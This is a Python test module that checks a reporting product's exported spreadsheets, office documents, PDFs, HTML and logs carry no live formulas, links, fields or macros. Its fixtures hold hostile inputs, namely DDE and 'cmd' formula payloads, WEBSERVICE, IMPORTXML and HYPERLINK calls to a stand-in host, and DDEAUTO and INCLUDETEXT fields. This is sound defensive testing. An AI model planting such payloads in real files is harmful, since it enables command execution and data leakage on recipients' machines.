"""Text that a spreadsheet, a word processor or a reader of mail could run or follow, through every file that leaves.

No office program is at hand in a test: what it would run or follow is read in the parts of each file.
"""

import csv
import io
import re
import zipfile
from collections.abc import Callable, Sequence
from pathlib import Path
from xml.etree.ElementTree import Element

import polars as pl
import published_home
import pytest
from commands import stra
from defusedxml.ElementTree import fromstring
from pypdf import PdfReader

from casework.access import access_log
from dashboards.data.published import Copy, open_copy
from dashboards.data.register import Reader, Register
from dashboards.data.scope import WHOLE
from dashboards.documents import as_docx, as_html, as_pdf, as_pptx, data_annex
from dashboards.documents.digest.digest_text import as_markdown
from dashboards.documents.reports import subject_access
from dashboards.documents.svg import Drawing
from dashboards.pages.audit import worksheet
from dashboards.parts.downloads import csv_bytes, xlsx_bytes
from dashboards.text.content import (
    Bullets,
    Callout,
    Chart,
    Document,
    Heading,
    Paragraph,
    Slide,
    Strong,
    Table,
    all_numbers,
    number,
    text,
)

ROOT = Path(__file__).resolve().parents[2]
SITE = "evil.invented"
FORMULAS = (
    "=1+1", "+1+1", "-1+1", "@SUM(1+1)", "\t=1+1", "\r=1+1", "\n=1+1",
    "\uff1d1+1", "\uff0b1+1", "\uff0d1+1", "\uff20SUM(1)",
    f'=HYPERLINK("http://{SITE}/x","see")', "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"x")', f'=WEBSERVICE("http://{SITE}/x")', f'=IMPORTXML("http://{SITE}/x","//a")',
)  # fmt: skip
LINKS = (
    f"http://{SITE}/x", f"https://{SITE}/x", f"ftp://{SITE}/x", f"mailto:a@{SITE}", f"file:////{SITE}/share",
    f"\\\\{SITE}\\share", "internal:Data!A1", f"external:\\\\{SITE}\\x.xlsx", f'HYPERLINK "http://{SITE}"',
    "DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe", f"{{ INCLUDETEXT http://{SITE} }}", f"[see](http://{SITE})",
    f'<a href="http://{SITE}">see</a>', f'<text:a xlink:href="http://{SITE}">see</text:a>', f"#link(\"http://{SITE}\")",
)  # fmt: skip
HOSTILE = (*FORMULAS, *LINKS)
STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")  # none begins a cell
PRINTABLE = [words for words in HOSTILE if words[0] < "\uff00"]  # a PDF brings one font, without full-width signs
NAMES = {"kind": "Kind", "words": "Words", "=1+2": "=1+2"}
MARK = "OFFICIAL"


def frame() -> pl.DataFrame:
    count = len(HOSTILE)
    return pl.DataFrame({"kind": [str(n) for n in range(count)], "words": HOSTILE, "=1+2": HOSTILE[::-1],
                         "n": range(count)})  # fmt: skip


@pytest.fixture(scope="module")
def copy(tmp_path_factory: pytest.TempPathFactory) -> Copy:
    home = tmp_path_factory.mktemp("home")
    tables = dict.fromkeys(("metrics.things", *data_annex.TABLES), frame())
    published_home.publish(home, "commissioning", tables)
    return open_copy(home, "commissioning", WHOLE)


def document(texts: Sequence[str] = HOSTILE) -> Document:
    """Every block, with every hostile text."""
    sheet = Drawing(400, 20 * len(texts))
    for n, words in enumerate(texts):
        sheet.words(10, 20 * n, words)
    held = number("metrics.things", "words", "words", kind="0")
    return Document(
        texts[0], LINKS[0], MARK, "Subject", ((texts[0], text(LINKS[0])),),
        (
            Heading(1, texts[0]),
            *(Heading(2, words) for words in texts),
            *(Paragraph(text(words, held, Strong(words))) for words in texts),
            Bullets(tuple(text(words) for words in texts)),
            *(Callout(words, text(words), (text(words),)) for words in texts),
            Table(texts[0], tuple(texts[:2]), tuple((text(words), text(words)) for words in texts)),
            Chart(sheet.svg(), text(*texts), LINKS[0], (held,)),
        ),
    )  # fmt: skip


def registered(copy: Copy, texts: Sequence[str] = HOSTILE) -> tuple[Document, Register]:
    made, register = document(texts), Register(Reader(copy))
    register.take(all_numbers(made))
    return made, register


def slides() -> tuple[Slide, ...]:
    blocks = document().blocks
    table = next(block for block in blocks if isinstance(block, Table))
    return tuple(Slide(words, (Paragraph(text(words)), Bullets((text(words),)), table)) for words in HOSTILE)


def worksheets(copy: Copy) -> bytes:
    units = [
        {"sample_ref": words, "stratum": "A", "unit_type": words, "unit_ref": words, "report_ref": words,
         "class_code": words, "ho_code": words, "linked_refs": words, "phrases": words,
         "rating": {"revision": 1, "evidence_note": words}}
        for words in HOSTILE
    ]  # fmt: skip
    return worksheet.workbook(units, cycle_ref=HOSTILE[0], role="first", rater=HOSTILE[0], marking=MARK)


def answer() -> subject_access.Answer:
    part = subject_access.Part("things", HOSTILE[0], dict.fromkeys(frame().columns, LINKS[0]), frame())
    return subject_access.Answer(
        HOSTILE[0], LINKS[0], HOSTILE[0], "2026-11-30", "1:a", part, LINKS[0], [part], [part], part, part, 1,
        is_whole=True, force=LINKS[0],
    )  # fmt: skip


# what each kind of file says that it does, and the texts that it holds


def is_csv(content: bytes) -> list[str]:
    cells = [cell for row in csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")) for cell in row]
    assert [cell for cell in cells if cell.startswith(STARTS)] == []
    return [cell.removeprefix("'") for cell in cells]


def parts(content: bytes) -> dict[str, Element]:
    """Each XML part of an office file; none refers to anything outside it, and none is code."""
    with zipfile.ZipFile(io.BytesIO(content)) as packed:
        found = {name: fromstring(packed.read(name)) for name in packed.namelist()
                 if name.endswith((".xml", ".rels")) and packed.read(name)}  # fmt: skip
        assert not [name for name in packed.namelist() if re.search(r"vba|externalLink|oleObject|activeX|embed", name)]
    for name, root in found.items():
        for relation in (each for each in root.iter() if each.tag.endswith("}Relationship")):
            assert relation.get("TargetMode") != "External", (name, relation.attrib)
            assert not relation.get("Type", "").endswith(("hyperlink", "externalLink", "oleObject")), name
    return found


def tags(root: Element) -> set[str]:
    return {each.tag.rpartition("}")[2] for each in root.iter()}


def is_xlsx(content: bytes) -> list[str]:
    found = parts(content)
    for root in found.values():
        assert not tags(root) & {"f", "hyperlink", "hyperlinks", "ddeLink", "externalReference", "oleLink"}
    texts = ["".join(each.itertext()) for each in found["xl/sharedStrings.xml"].iter() if each.tag.endswith("}si")]
    texts = [re.sub(r"_x00([0-9A-F]{2})_", lambda at: chr(int(at[1], 16)), each) for each in texts]
    assert [cell for cell in texts if cell.startswith(STARTS)] == []
    return [cell.removeprefix("'") for cell in texts]


def is_ods(content: bytes) -> list[str]:
    found = parts(content)
    for root in found.values():
        assert not tags(root) & {"a", "dde-link", "dde-source", "database-range", "event-listener", "object", "script"}
        attributes = {name.rpartition("}")[2] for each in root.iter() for name in each.attrib}
        assert not attributes & {"formula", "href"} or root.tag.endswith("manifest")
    strings = [{name.rpartition("}")[2]: value for name, value in each.attrib.items()}
               for each in found["content.xml"].iter() if each.tag.endswith("}table-cell")]  # fmt: skip
    texts = [each["string-value"] for each in strings if each.get("value-type") == "string"]
    assert [cell for cell in texts if cell.startswith(STARTS)] == []
    return [cell.removeprefix("'") for cell in texts]


def is_docx(content: bytes) -> list[str]:
    found = parts(content)
    for name, root in found.items():
        assert not tags(root) & {"hyperlink", "instrText", "fldChar", "altChunk", "subDoc", "object"}, name
        fields = [value for each in root.iter() if each.tag.endswith("}fldSimple") for value in each.attrib.values()]
        assert {field.strip() for field in fields} <= {"PAGE", "NUMPAGES"}, name
    return ["".join(found["word/document.xml"].itertext())]


def is_pptx(content: bytes) -> list[str]:
    found, own = parts(content), {"slidenum", "datetimeFigureOut"}  # fields of the master, as the library brings it
    for name, root in found.items():
        assert not tags(root) & {"hlinkClick", "hlinkHover", "hlinkMouseOver", "oleObj"}, name
        assert {each.get("type") for each in root.iter() if each.tag.endswith("}fld")} <= own, name
    return ["".join(root.itertext()) for name, root in found.items() if name.startswith("ppt/slides/slide")]


def is_html(content: bytes) -> list[str]:
    page = content.decode()
    tagged = re.sub(r"<style.*?</style>", "", page, flags=re.S)
    assert all(address.startswith("#") for address in re.findall(r"<[^>]*?\b(?:href|src|action)=\"([^\"]*)", tagged))
    assert not re.search(r"<(script|iframe|form|object|embed|base|link)\b", tagged)
    return [re.sub(r"<[^>]*>", "", tagged).replace("&lt;", "<").replace("&gt;", ">").replace("&quot;", '"')
            .replace("&#x27;", "'").replace("&#39;", "'").replace("&amp;", "&")]  # fmt: skip


def is_pdf(content: bytes) -> list[str]:
    read = PdfReader(io.BytesIO(content))
    assert not re.search(rb"/(URI|Launch|JavaScript|JS|GoToR|SubmitForm|ImportData)\b", content)
    for page in read.pages:
        for note in page.get("/Annots", []):
            action = note.get_object().get("/A", {})
            assert str(action.get("/S", "/GoTo")) == "/GoTo", action
    return [" ".join(" ".join(page.extract_text() for page in read.pages).split())]


Maker = Callable[[Copy], dict[str, bytes]]
EXPORTS: dict[str, Maker] = {
    "a table of a page": lambda copy: {
        "x.csv": csv_bytes(frame(), NAMES),
        "x.xlsx": xlsx_bytes(frame(), NAMES, title=HOSTILE[0], notes=HOSTILE, marking=MARK),
    },
    "a worksheet of an audit": lambda copy: {"x.xlsx": worksheets(copy)},
    "the annex of the evidence pack": lambda copy: data_annex.files(copy, MARK),
    "a document": lambda copy: {
        "x.docx": as_docx.render(*registered(copy)), "x.html": as_html.render(*registered(copy)),
        "x.pdf": as_pdf.render(*registered(copy, PRINTABLE)),
    },
    "slides": lambda copy: {"x.pptx": as_pptx.render(registered(copy)[0], slides(), registered(copy)[1])},
    "an answer to a subject access request": lambda copy: subject_access.files(answer(), MARK),
}  # fmt: skip
KINDS = {
    "csv": is_csv, "xlsx": is_xlsx, "ods": is_ods, "docx": is_docx, "pptx": is_pptx, "html": is_html, "pdf": is_pdf,
}  # fmt: skip


def plain(words: str) -> str:
    return re.sub(r"\s+", "", words)


@pytest.mark.parametrize("export", EXPORTS)
def test_no_file_that_leaves_has_a_formula_a_link_or_a_field_made_of_data(copy: Copy, export: str) -> None:
    made = EXPORTS[export](copy)
    assert made
    for name, content in made.items():
        kind = name.rpartition(".")[2]
        held = plain("\0".join(KINDS[kind](content)))
        wanted = HOSTILE[:1] if name == subject_access.DOCUMENT else HOSTILE
        wanted = PRINTABLE if kind == "pdf" else wanted
        absent = [words for words in wanted if plain(words) not in held]
        assert absent == [], f"{name} was not tried with these"


def test_the_exported_log_has_none(tmp_path: Path) -> None:
    for words in HOSTILE:
        action = access_log.by_command("disclosure", "integrity", "stra test", words, recipient=words)
        access_log.record_in(tmp_path, action)
    stra("log", "export", "--home", tmp_path, "--out", tmp_path / "log.csv", "--recipient", HOSTILE[0])
    assert set(map(plain, HOSTILE)) <= set(map(plain, is_csv((tmp_path / "log.csv").read_bytes())))


def test_a_message_links_to_the_own_site_alone() -> None:
    """Any address was a link: a unit with such a name led out of the force from a message of its own product."""
    for words in LINKS:
        made = as_markdown(f"1 entry ({words} 1). See https://stra.force.invented/fix_list", "https://stra.force.invented")
        assert re.findall(r"(?<!\\)\]\(([^)]*)\)", made) == ["https://stra.force.invented/fix_list"]
        assert re.findall(r"\w+://\S+", made.split("See ")[0]) == [], "a bare address is made a link by its reader"
    assert "](" not in as_markdown("See https://stra.force.invented/fix_list", "").replace("\\](", "")


WRITERS = re.compile(
    r"csv\.(Dict)?[wW]riter\(|xlsxwriter\.Workbook\(|docx\.Document\(|\bPresentation\(|typst\.(compile|Compiler)\(|"
    r"Document\(\"spreadsheet\"\)|\.write_csv\(|\.write_excel\(|\.to_csv\(|format csv"
)
DRIVEN = {
    "dashboards/parts/downloads.py", "dashboards/pages/audit/worksheet.py", "dashboards/documents/data_annex.py",
    "dashboards/documents/docx_template.py", "dashboards/documents/as_pptx.py", "dashboards/documents/as_pdf.py",
    "pipelines/commands/access.py",
    "pipelines/delivery/accepted_lists.py",  # its own lists, by name
}  # fmt: skip


def test_nothing_else_of_the_product_writes_such_a_file() -> None:
    """A further module that writes one of these formats belongs into the table above."""
    found = {
        path.relative_to(ROOT).as_posix()
        for package in ("dashboards", "casework", "pipelines", "stra")
        for path in (ROOT / package).rglob("*.py")
        if WRITERS.search(path.read_text(encoding="utf-8"))
    }
    assert found == DRIVEN
